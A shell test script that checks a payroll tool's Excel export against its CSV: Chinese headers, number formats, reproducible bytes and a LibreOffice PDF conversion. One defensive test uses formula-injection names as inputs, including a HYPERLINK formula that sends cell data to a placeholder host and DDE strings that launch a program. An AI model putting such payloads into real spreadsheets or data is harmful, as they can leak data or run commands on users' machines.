#!/bin/sh
# tests/check-payroll.sh — the payroll workbook YYYY-MM-pay.xlsx of
# `rolebook report` (issue 14): read back with openpyxl, it equals the
# payroll CSV figure for figure (ids, names, every amount to the fen, the
# totals row = the sums); headers are the Chinese ones of the PDF pay
# table; money cells are numbers in #,##0.00; no cell is a formula; the
# header is frozen; the sheet is named after the month; the second sheet
# explains every figure (its amounts add up to each person's total); two
# runs give identical bytes (with and without SOURCE_DATE_EPOCH, whose
# value is the document date); formula-like names stay plain strings.
# When LibreOffice is installed (libreoffice-calc-nogui), the workbook
# converts to PDF and the text of its first page has every name and total.
# Prints "payroll: N passed, N failed".
. "$(dirname "$0")/lib.sh"
m=$(ls content/sales | tail -n 1)
r="$tmp/a/reports"
# Debian's python3, which has python3-openpyxl (not a pyenv one on PATH)
py=/usr/bin/python3
[ -x $py ] || py=python3

if $rb report "$m" content -o "$tmp/a" 2>"$tmp/err" &&
    [ -s "$r/$m-pay.xlsx" ]; then ok
else ko "report $m wrote no workbook: $(head -3 "$tmp/err")"; fi

# check_book XLSX CSV: the workbook against the CSV.
check_book() {
	$py - "$1" "$2" "$m" <<'PY'
import csv, sys
from openpyxl import load_workbook
xlsx, pay, month = sys.argv[1], sys.argv[2], sys.argv[3]
rows = list(csv.reader(open(pay, encoding="utf-8", newline="")))
wb = load_workbook(xlsx)
assert wb.sheetnames == [month, "计算说明"], wb.sheetnames
ws = wb[month]
head = [c.value for c in ws[1]]
want = ["工号", "姓名", "底薪", "电话补贴", "交通补贴", "全勤奖", "准客户任务",
        "提成", "冠军奖", "团队奖", "罚款", "应发合计"]
assert head == want, head
assert ws.freeze_panes == "A2", ws.freeze_panes
for w in wb.worksheets:
    for row in w.iter_rows():
        for c in row:
            assert c.data_type != "f", (w.title, c.coordinate, c.value)
data = list(ws.iter_rows(min_row=2, values_only=False))
assert len(data) == len(rows) - 1 + 1, (len(data), len(rows))
def fen(v):
    assert isinstance(v, (int, float)), v
    return round(v * 100)
def tick(s):   # the CSV's leading ' of a text a spreadsheet would evaluate
    return s[1:] if s[:1] == "'" and s[1:2] in ("=", "+", "-", "@", "\t", "\r") else s
sums = [0] * 10
for x, r in zip(data, rows[1:]):
    assert x[0].data_type == "s" and x[1].data_type == "s", (x[0].value, x[1].value)
    assert x[0].value == tick(r[0]) and x[1].value == tick(r[1]), (x[0].value, r)
    for k in range(10):
        c = x[2 + k]
        assert c.number_format == "#,##0.00", c.number_format
        want = round(float(r[2 + k]) * 100)
        assert fen(c.value) == want, (r[0], k, c.value, r[2 + k])
        sums[k] += want
tot = data[-1]
assert tot[0].value == "合计（%d 人）" % (len(rows) - 1), tot[0].value
assert [fen(c.value) for c in tot[2:]] == sums, ([c.value for c in tot[2:]], sums)
# the explanation sheet: each person's figures add up to the total
why = wb["计算说明"]
assert [c.value for c in why[1]] == ["工号", "姓名", "项目", "金额", "计算说明", "依据"]
per = {}
for x in why.iter_rows(min_row=2, values_only=True):
    per[x[0]] = per.get(x[0], 0) + fen(x[3])
    assert x[4], x
for r in rows[1:]:
    assert per.get(tick(r[0])) == round(float(r[11]) * 100), (r[0], per.get(tick(r[0])), r[11])
print(len(rows) - 1)
PY
}
if n=$(check_book "$r/$m-pay.xlsx" "$r/$m-pay.csv" 2>"$tmp/py") && [ "$n" -gt 5 ]; then ok
else ko "the workbook differs from the CSV: $(tail -3 "$tmp/py")"; fi

# The same bytes twice (the date from the month), and SOURCE_DATE_EPOCH
# gives the document date.
$rb report "$m" content -o "$tmp/b" 2>/dev/null
cmp -s "$r/$m-pay.xlsx" "$tmp/b/reports/$m-pay.xlsx" && ok ||
    ko "two runs gave different workbooks"
SOURCE_DATE_EPOCH=1767225600 $rb report "$m" content -o "$tmp/c" 2>/dev/null
SOURCE_DATE_EPOCH=1767225600 $rb report "$m" content -o "$tmp/d" 2>/dev/null
cmp -s "$tmp/c/reports/$m-pay.xlsx" "$tmp/d/reports/$m-pay.xlsx" && ok ||
    ko "two runs with SOURCE_DATE_EPOCH gave different workbooks"
if $py - "$r/$m-pay.xlsx" "$tmp/c/reports/$m-pay.xlsx" "$m" <<'PY' 2>"$tmp/py"
import sys, datetime
from openpyxl import load_workbook
a = load_workbook(sys.argv[1]).properties.created
b = load_workbook(sys.argv[2]).properties.created
y, mo = map(int, sys.argv[3].split("-"))
nxt = datetime.datetime(y + mo // 12, mo % 12 + 1, 1)
assert a == nxt, (a, nxt)
assert b == datetime.datetime(2026, 1, 1), b
PY
then ok; else ko "document dates: $(tail -2 "$tmp/py")"; fi

# Names a spreadsheet would evaluate: strings in the workbook, unchanged.
c=tests/cases/payroll-formula-names
if (cd $c && "$top/$rb" report 2026-10 content -o "$tmp/f") 2>/dev/null &&
    check_book "$tmp/f/reports/2026-10-pay.xlsx" \
	"$tmp/f/reports/2026-10-pay.csv" >/dev/null 2>"$tmp/py" &&
    $py - "$tmp/f/reports/2026-10-pay.xlsx" <<'PY' 2>>"$tmp/py"
import sys
from openpyxl import load_workbook
ws = load_workbook(sys.argv[1])["2026-10"]
names = [r[1] for r in ws.iter_rows(min_row=2, values_only=True)][:-1]
assert names == ['=HYPERLINK("http://x/?"&A1,"y")', "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"], names
PY
then ok; else ko "formula-like names in the workbook: $(tail -3 "$tmp/py")"; fi

# LibreOffice opens it: the first page has every name and the total.
if command -v soffice >/dev/null 2>&1; then
	if soffice -env:UserInstallation="file://$tmp/lo-profile" --headless \
	    --convert-to pdf --outdir "$tmp/lo" "$r/$m-pay.xlsx" \
	    >"$tmp/lo.log" 2>&1 && [ -s "$tmp/lo/$m-pay.pdf" ]; then
		pdftotext -layout -f 1 -l 1 "$tmp/lo/$m-pay.pdf" "$tmp/lo.txt"
		total=$(python3 -c "
import csv,sys
r=list(csv.reader(open(sys.argv[1],encoding='utf-8')))[1:]
print('{:,.2f}'.format(sum(round(float(x[11])*100) for x in r)/100))" "$r/$m-pay.csv")
		miss=""
		for s in 工号 应发合计 "$total" $(tail -n +2 "$r/$m-pay.csv" | cut -d, -f2); do
			grep -qF -- "$s" "$tmp/lo.txt" || miss="$miss $s"
		done
		[ -z "$miss" ] && ok || ko "LibreOffice's PDF of the workbook lacks:$miss"
	else ko "LibreOffice could not convert the workbook: $(tail -3 "$tmp/lo.log")"; fi
else
	echo "payroll: soffice not installed; the LibreOffice check is skipped"
fi

echo "payroll: $pass passed, $fail failed"
[ $fail = 0 ]
